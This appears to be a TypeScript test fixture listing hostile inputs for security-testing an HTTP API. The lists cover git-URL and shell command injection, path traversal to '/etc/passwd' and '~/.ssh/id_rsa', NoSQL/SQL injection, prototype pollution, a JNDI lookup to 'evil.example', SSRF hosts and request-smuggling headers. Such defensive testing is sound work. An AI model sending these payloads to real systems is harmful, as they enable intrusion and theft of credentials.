/** The texts that spoil a request: values, paths, queries, heads and framing of every known kind of attack. */

function nested(depth: number): string {
	return `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
}

const gitUrls = [
	"--upload-pack=touch x",
	"-u./x",
	"ext::sh -c id",
	"fd::17/x",
	"ssh://-oProxyCommand=id/x",
	"git@-oProxyCommand=id:x",
	"file:///etc/passwd",
	"https://a:b@127.0.0.1:1/x",
	"https://evil.example/a\nb",
	"https://[::1/x",
	"http://2130706433/x",
	"http://[::ffff:7f00:1]/x",
	"http://①②⑦.⓪.⓪.①/x",
];
const shellTexts = ["$(touch x)", "`id`", "'; id #", '" && id', "a\nid", "$IFS", "!!", "\\'"];
/** The variables of an environment that nobody may set. */
const variables = [
	"PATH",
	"LD_PRELOAD",
	"BASH_ENV",
	"NODE_OPTIONS",
	"GIT_SSH_COMMAND",
	"ATELIER_ROLE",
	"A B",
	"a=b",
	"",
];

/** JSON texts for the place of a parameter's value. */
export const hostileValues = {
	"wrong type": ["null", "true", "12", '"text"', "{}", "[]", "1.5"],
	huge: [`"${"x".repeat(70_000)}"`, `"${"y".repeat(600_000)}"`, `[${"1,".repeat(20_000)}1]`, `"${"z".repeat(500)}"`],
	unicode: [
		'"\\ud800"',
		'"\\udfff\\ud800"',
		'"\u202Etxt.exe"',
		'"👩‍👩‍👧‍👦"',
		'"①②⑦.⓪.⓪.①"',
		'"ａｄｍｉｎ"',
		'"e\u0301"',
	],
	control: ['"\\u0000"', '"a\\u0000b"', '"a\\r\\nSet-Cookie: a=b"', '"\\u001b[2J"', '"\\u007f\\u0085\\u2028"'],
	prototype: [
		'{"__proto__":{"role":"admin"}}',
		'{"constructor":{"prototype":{"x":1}}}',
		'"__proto__"',
		'"constructor"',
	],
	operators: ['{"$ne":null}', '{"$gt":""}', '{"$where":"sleep(1000)"}', '{"$regex":".*"}', '"\' OR 1=1 --"', '"$ne"'],
	deep: [nested(31), nested(33), nested(5_000), `${"[".repeat(20_000)}${"]".repeat(20_000)}`],
	"list for scalar": ['["a"]', '["a","b"]', "[[]]", "[null]", "[0]"],
	path: [
		'"../../etc/passwd"',
		'"/etc/passwd"',
		'"a/../../b"',
		'"..\\\\..\\\\b"',
		'".git/config"',
		'"%2e%2e%2f"',
		'"/proc/self/environ"',
		'"~/.ssh/id_rsa"',
	],
	"git URL": gitUrls
		.flatMap((url) => [url, { type: "git", repo: url, branch: "-x" }])
		.map((value) => JSON.stringify(value)),
	shell: [
		...shellTexts.map((text) => JSON.stringify(text)),
		...variables.map((name) => JSON.stringify({ [name]: "x'$(id)\u0000" })),
	],
	bounds: [
		"-1",
		"0",
		"501",
		"2001",
		"2147483648",
		"9007199254740993",
		"-0",
		"1e308",
		"1e400",
		"0.1",
		'"0x10"',
		'"NaN"',
	],
} as const;

export const hostilePaths = [
	"..%2f..%2fetc%2fpasswd",
	"%2e%2e",
	"..%5c..",
	"%00",
	"a%0d%0ab",
	"%c0%af",
	"%ff",
	"%",
	"%zz",
	"..;",
];

export const hostileQueries = [
	"__proto__[x]=1",
	"limit[$ne]=1",
	"limit[]=5",
	"%ff=%ff",
	"&&&==&",
	"limit=%00",
	"cursor=..%2f",
];

export const brokenTexts = ["", "{", "[]", '"a"', "null", "{'a':1}", "\ufeff{}", '{"a":01}', "{} {}", '{"a":NaN}'];

export const extras = '"role":"admin","owner_id":"bob","tenant_id":"other","$set":{"a":1},"id":"x","toString":"x"';

/** Headers with false claims about the sender, the origin or the target, and malformed headers. */
export const hostileHeaders = [
	"X-User-Id: admin",
	"X-Auth-Roles: admin",
	"X-Forwarded-User: carol",
	"X-Forwarded-For: 127.0.0.1",
	"X-HTTP-Method-Override: DELETE",
	"X-Original-URL: /api/v1/svc/stats",
	`X-Request-ID: ${"a".repeat(8_000)}`,
	"X-Request-ID: ${jndi:ldap://evil.example/a}",
	"Idempotency-Key: a b",
	"Last-Event-ID: ../../1",
	"Accept: ../../etc/passwd",
	"Range: bytes=0-18446744073709551615",
	"If-None-Match: *",
	`Cookie: ${"a=b; ".repeat(500)}`,
	"Expect: more",
] as const;

export const hostileHosts = [
	["evil.example", ""],
	["169.254.169.254", ""],
	["localhost.evil.example", ""],
	["a b", ""],
	["[::1", ""],
	["", ""],
	["", "http://evil.example"],
	["", "null"],
	["", "http://127.0.0.1.evil.example"],
] as const;

/** Media types, some with an encoding of the body. */
export const hostileTypes = [
	["text/plain", ""],
	["application/x-www-form-urlencoded", ""],
	["multipart/form-data; boundary=a", ""],
	["application/json; charset=utf-16", ""],
	["application/json, text/plain", ""],
	["application/json", "gzip"],
	["application/json", "br"],
	["", ""],
] as const;

export const hostileMethods = ["TRACE", "PROPFIND", "get", "post", "M-SEARCH", "G\u0000T", "OPTIONS"] as const;

/** The headers between the first line and a body of two bytes. */
export const hostileFraming = [
	"Content-Length: 1\r\nContent-Length: 2",
	"Content-Length: 2\r\nTransfer-Encoding: chunked",
	"Transfer-Encoding: xchunked",
	"Transfer-Encoding: chunked, gzip",
	"Content-Length: -2",
	"Content-Length: 0x2",
	"X: a\0b",
	"X: a\r\n b: c",
	"X : a",
	"nothing",
	"X: a\rY: b",
] as const;
